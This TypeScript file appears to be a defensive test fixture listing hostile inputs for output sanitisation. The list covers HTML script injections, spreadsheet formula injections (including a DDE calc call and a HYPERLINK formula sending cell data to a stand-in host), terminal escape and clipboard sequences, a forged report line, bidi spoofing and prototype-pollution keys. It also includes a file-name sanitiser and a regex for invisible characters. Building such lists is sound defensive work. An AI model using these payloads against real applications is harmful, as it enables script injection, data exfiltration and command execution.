/** What a text from outside may hold, by what it tries to be. Every outlet is held to the same list. */
export interface HostileText {
  readonly name: string;
  readonly text: string;
}

const esc = '\u001b';
const bell = '\u0007';

export const hostileTexts: readonly HostileText[] = [
  // Scripts, in text and in attributes
  { name: 'a script', text: '<script>window.attacked=1</script>' },
  { name: 'a picture that fails', text: '"><img src=http://elsewhere.example/x onerror=window.attacked=1>' },
  { name: 'an attribute', text: '" onmouseover="window.attacked=1" autofocus onfocus="window.attacked=1' },
  { name: 'an attribute in apostrophes', text: "' onmouseover='window.attacked=1" },
  { name: 'the end of a style', text: '</style><style>*{display:none;background:url(http://elsewhere.example/y)}' },
  { name: 'the end of a title', text: '</title><script>window.attacked=1</script>' },
  { name: 'an address that is a script', text: 'javascript:window.attacked=1' },
  {
    name: 'a picture of its own',
    text: '<svg onload=window.attacked=1><use href="http://elsewhere.example/z#a"/></svg>',
  },
  { name: 'a frame', text: '<iframe srcdoc="<script>parent.attacked=1</script>"></iframe>' },
  {
    name: 'another base, another page',
    text: '<base href="http://elsewhere.example/"><meta http-equiv=refresh content=0>',
  },
  { name: 'a comment and a section that is not read', text: '<!--<![CDATA[--><script>window.attacked=1</script>' },
  { name: 'references to characters', text: '&lt;script&gt; &#x3c;b&#62; &amp;amp;' },
  // biome-ignore lint/suspicious/noTemplateCurlyInString: what a template would put a value into
  { name: 'marks of templates', text: '${attacked=1} {{constructor.constructor("attacked=1")()}} <%= 1 %> #{1}' },
  // Formulas
  { name: 'a formula', text: '=HYPERLINK("http://elsewhere.example/?"&A1,"x")' },
  { name: 'a sum', text: '+SUM(A1:A9)' },
  { name: 'a difference that calls a program', text: "-2+3+cmd|' /C calc'!A0" },
  { name: 'an at sign', text: '@SUM(1+1)' },
  { name: 'a formula in wide signs', text: '＝1+1' },
  { name: 'a formula behind a tab', text: '\t=1+1' },
  { name: 'a formula behind a carriage return', text: '\r=1+1' },
  { name: 'a formula behind a line end', text: 'x\n=1+1' },
  { name: 'a formula behind blanks', text: '  =1+1' },
  { name: 'a formula behind a quotation mark', text: '"=1+1","=2+2"' },
  { name: 'a formula behind another separator', text: "x;=1+1,=2+2;@SUM(1)\t-cmd|' /C calc'!A0" },
  { name: 'a bar', text: '|calc!A1' },
  { name: 'an open quotation mark', text: '"x' },
  // What steers a terminal, or forges a line
  { name: 'a colour and a cleared screen', text: `${esc}[31m${esc}[2J${esc}[H` },
  { name: 'a title of the window', text: `${esc}]0;attacked${bell}` },
  {
    name: 'a link of the terminal',
    text: `${esc}]8;;http://elsewhere.example/${esc}\\x${esc}]8;;${esc}\\`,
  },
  { name: 'a copy to the clipboard', text: `${esc}]52;c;YXR0YWNrZWQ=${bell}` },
  { name: 'controls of eight bits', text: '\u009b31m\u009d0;x\u009c\u0085' },
  { name: 'a bell, a backspace, a delete', text: `a${bell}b\b\b\u007f` },
  { name: 'a NUL', text: 'a\0b' },
  { name: 'a line of our own', text: 'x\nverdict  pass\nRule  every check passes' },
  { name: 'odd line ends', text: 'a\u2028b\u2029c\vd\fe\u0085f' },
  // What cannot be seen, or turns the order of letters
  { name: 'an override of direction', text: 'photo\u202Efdp.exe' },
  { name: 'isolates left open', text: '\u2066a\u2067b\u2068c' },
  { name: 'marks of direction', text: '\u200fa\u200eb\u061cc' },
  { name: 'characters without width', text: 'a\u200bb\u200cc\u200dd\u2060e\ufefff\u00adg' },
  { name: 'letters drawn as nothing', text: 'a\u3164b\u115fc\u2800d\u034fe' },
  { name: 'tags', text: 'a\u{e0041}\u{e0042}\u{e007f}b' },
  { name: 'letters from right to left', text: 'מתמר 12.5 مسبار 34' },
  { name: 'halves of characters', text: 'a\ud83db\udc00c' },
  // Names of every object, and of nothing
  { name: 'a name of every object', text: '__proto__' },
  { name: 'another', text: 'constructor' },
  { name: 'one more', text: 'toString' },
  // Size
  { name: 'a very long word', text: 'w'.repeat(200) },
  { name: 'many marks on one letter', text: `Z${'\u0301\u0323\u0335'.repeat(60)}` },
];

/** The text as a file may be called on any disk: no slash, no NUL, no half of a character, within 255 bytes with its ending. */
export function asFileName(text: string): string {
  const allowed = Buffer.from(text).toString().replace(/[/\0]/g, '∕');
  let name = '';
  for (const letter of allowed) {
    if (Buffer.byteLength(name + letter) > 240) break;
    name += letter;
  }
  return `${name}.csv`;
}

/** What may not come out as it came, at any outlet that a person reads; line ends and tabs are for the outlet's own form. */
export const unseen = new RegExp(
  `[${[
    '\\0-\\x08\\x0b-\\x1f\\x7f-\\x9f',
    '\\u00ad\\u034f\\u061c\\u115f\\u200b-\\u200f\\u2028-\\u202e\\u2060-\\u206f\\u2800\\u3164\\ufeff',
    '\\ud800-\\udfff',
    '\\u{e0000}-\\u{e0fff}',
  ].join('')}]`,
  'u',
);
